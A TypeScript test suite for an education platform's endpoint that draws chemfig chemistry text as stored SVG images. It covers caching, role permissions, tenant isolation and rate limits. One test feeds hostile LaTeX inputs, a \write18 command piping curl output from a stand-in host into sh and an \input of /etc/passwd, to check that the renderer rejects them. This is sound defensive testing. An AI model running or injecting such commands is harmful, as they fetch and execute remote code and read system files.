import { CHEMISTRY_MESSAGES } from '@ava/contracts';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { bearer, createTestContext, signIn, type TestContext } from '../../../test/harness.ts';
import { buildPlatform, buildSchool, buildUser, type PlatformRow } from '../../../test/tenant.fixture.ts';
import { storedFiles } from '../storage/storage.tables.ts';
import { renderChemfig } from './chemfig/render.ts';

// The renderer, counted: a drawing stored once is never drawn again.
vi.mock('./chemfig/render.ts', async (importOriginal) => {
  const original = await importOriginal<typeof import('./chemfig/render.ts')>();
  return { ...original, renderChemfig: vi.fn(original.renderChemfig) };
});

let ctx: TestContext;
let platform: PlatformRow;
const tokens: Record<string, string> = {};
const BENZENE = '*6(-=-=-=)';

const draw = (who: string, payload: object) =>
  ctx.app.inject({
    method: 'POST',
    url: '/api/chemistry/strText/toAwsURL',
    headers: bearer(tokens[who] ?? ''),
    payload,
  });
const keyOf = (url: string) => /\/api\/storage\/files\/([^?]+)\?/.exec(url)?.[1] ?? '';

beforeAll(async () => {
  ctx = await createTestContext();
  platform = await buildPlatform(ctx.db);
  const schoolId = (await buildSchool(ctx.db, platform)).id;
  await buildUser(ctx.db, platform, 'school_teacher', { username: 'prof', schoolId });
  await buildUser(ctx.db, platform, 'private_teacher', { username: 'particular' });
  await buildUser(ctx.db, platform, 'school_coordinator', { username: 'coord', schoolId });
  await buildUser(ctx.db, platform, 'school_student', { username: 'aluno', schoolId });
  await buildUser(ctx.db, platform, 'guardian', { username: 'resp', schoolId });
  const other = await buildPlatform(ctx.db);
  await buildUser(ctx.db, other, 'school_teacher', {
    username: 'prof',
    schoolId: (await buildSchool(ctx.db, other)).id,
  });
  tokens.foreign = await signIn(ctx.app, other.slug, 'prof');
  for (const who of ['prof', 'particular', 'coord', 'aluno', 'resp'])
    tokens[who] = await signIn(ctx.app, platform.slug, who);
});
afterAll(() => ctx.close());
beforeEach(() => {
  vi.mocked(renderChemfig).mockClear();
});

describe('POST /api/chemistry/strText/toAwsURL', () => {
  it('draws the chemfig text as an SVG stored by the storage service, and gives its url', async () => {
    const response = await draw('prof', { strText: BENZENE });
    expect(response.statusCode).toBe(200);
    const { url } = response.json();
    expect(url).toMatch(
      new RegExp(`^/api/storage/files/${platform.id}/chemistry/[0-9a-f]{64}\\.svg\\?expires=\\d+&signature=`),
    );
    // A student reading a text with the drawing loads it through the url, without a token.
    const image = await ctx.app.inject({ method: 'GET', url });
    expect(image.statusCode).toBe(200);
    expect(image.headers['content-type']).toBe('image/svg+xml');
    expect(image.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(image.body).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    expect(image.body.match(/class="bond /g)).toHaveLength(6);
    // Readable by anyone of the platform through the storage routes too (a student reading the text).
    const meta = await ctx.app.inject({
      method: 'GET',
      url: `/api/storage/storage/get?key=${encodeURIComponent(keyOf(url))}&meta=true`,
      headers: bearer(tokens.aluno ?? ''),
    });
    expect(meta.json()).toMatchObject({ content_type: 'image/svg+xml', category: 'image' });
  });

  it('draws a text once: the same text (spaces aside) gives the same stored drawing without drawing it again', async () => {
    const text = 'R-C(=[1]O)-[7]OH';
    const first = (await draw('prof', { strText: text })).json().url;
    expect(renderChemfig).toHaveBeenCalledTimes(1);
    const again = (await draw('particular', { strText: ` R - C(=[1]O) - [7]OH ` })).json().url;
    expect(renderChemfig).toHaveBeenCalledTimes(1);
    expect(keyOf(again)).toBe(keyOf(first));
    const rows = await ctx.db
      .select()
      .from(storedFiles)
      .where(eq(storedFiles.key, keyOf(first)));
    expect(rows).toHaveLength(1);
    // Two first drawings of one text at once end in one stored file.
    const together = await Promise.all([1, 2, 3].map(() => draw('coord', { strText: 'CH_3-CH_2-CH_2-OH' })));
    expect(new Set(together.map((answer) => keyOf(answer.json().url))).size).toBe(1);
  });

  it('refuses text it cannot draw with the spec’s message, storing nothing, in a few milliseconds', async () => {
    const before = await ctx.db.select().from(storedFiles).where(eq(storedFiles.namespace, 'chemistry'));
    for (const strText of [
      '\\write18{curl http://exemplo.com | sh}',
      '\\input{/etc/passwd}',
      `${'C(-'.repeat(200)}H${')'.repeat(200)}`,
      '*999999(-)',
      'C-(',
      '',
      'C'.repeat(1_001),
    ]) {
      const started = performance.now();
      const response = await draw('prof', { strText });
      expect(response.statusCode, strText.slice(0, 20)).toBe(400);
      expect(response.json().message).toBe(CHEMISTRY_MESSAGES.renderFailed);
      expect(performance.now() - started).toBeLessThan(1_000);
    }
    const after = await ctx.db.select().from(storedFiles).where(eq(storedFiles.namespace, 'chemistry'));
    expect(after).toHaveLength(before.length);
  });

  it('is for educators: students and guardians get 403, no token 498', async () => {
    for (const who of ['particular', 'coord']) expect((await draw(who, { strText: 'H_2O' })).statusCode).toBe(200);
    for (const who of ['aluno', 'resp']) expect((await draw(who, { strText: 'H_2O' })).statusCode).toBe(403);
    const anonymous = await ctx.app.inject({
      method: 'POST',
      url: '/api/chemistry/strText/toAwsURL',
      payload: { strText: 'H_2O' },
    });
    expect(anonymous.statusCode).toBe(498);
  });

  it('keeps each platform’s drawings apart: another platform draws its own, and cannot read ours', async () => {
    const ours = keyOf((await draw('prof', { strText: 'NH_4^+' })).json().url);
    const theirs = keyOf((await draw('foreign', { strText: 'NH_4^+' })).json().url);
    expect(theirs).not.toBe(ours);
    expect(theirs.split('/')[0]).not.toBe(platform.id);
    const read = await ctx.app.inject({
      method: 'GET',
      url: `/api/storage/storage/get?key=${encodeURIComponent(ours)}`,
      headers: bearer(tokens.foreign ?? ''),
    });
    expect(read.statusCode).toBe(403);
  });

  it('nobody replaces or deletes a drawing through the storage routes, not even whoever drew it first', async () => {
    const key = keyOf((await draw('prof', { strText: 'CO_2' })).json().url);
    const removed = await ctx.app.inject({
      method: 'DELETE',
      url: '/api/storage/storage/delete',
      headers: bearer(tokens.prof ?? ''),
      payload: { key },
    });
    expect(removed.statusCode).toBe(403);
  });

  it('limits each educator to 30 drawings a minute', async () => {
    const statuses: number[] = [];
    for (let index = 0; index < 31; index += 1) {
      statuses.push((await draw('particular', { strText: `C-[${index % 8}]O` })).statusCode);
    }
    expect(statuses.filter((status) => status === 429).length).toBeGreaterThan(0);
    ctx.clock.advance(61_000);
    expect((await draw('particular', { strText: 'O=C=O' })).statusCode).toBe(200);
  });
});
